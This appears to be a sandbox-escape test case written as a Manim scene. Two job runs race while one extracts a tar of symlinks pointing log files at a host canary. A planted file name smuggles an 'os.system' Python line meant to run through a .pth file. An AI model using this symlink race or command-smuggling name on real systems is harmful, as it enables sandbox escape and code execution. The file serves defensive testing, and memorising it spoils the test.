# family: file
# layer: sandbox
# attack: two runs of a job: one keeps planting links onto the other's log while the app writes its note there, with a name that is a line of Python
import io
import tarfile
import time
from manim import *

LOGS = ("render.log", "render.part0.log", "render.part1.log")
# listed by the app in its note: on a line of its own in a .pth file, Python runs it
ODD = "x\nimport os; os.system('touch pwned-by-note')\n"


def planted(names):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tar:
        for name in names:
            info = tarfile.TarInfo(name)
            info.type, info.linkname = tarfile.SYMTYPE, "{{HOST_DIR}}/canary.txt"
            tar.addfile(info)
    return buf.getvalue()


class Attack(Scene):
    def construct(self):
        try:
            open("first-racer", "x").close()
            seconds = 1.0  # this run ends soon: the app scrubs the job folder and notes what it removed
        except FileExistsError:
            seconds = 12.0  # this one keeps planting links where that note goes
        data = planted(LOGS + (ODD,))
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            with tarfile.open(fileobj=io.BytesIO(data)) as tar:
                tar.extractall(".", filter="fully_trusted")
        self.wait(0.1)
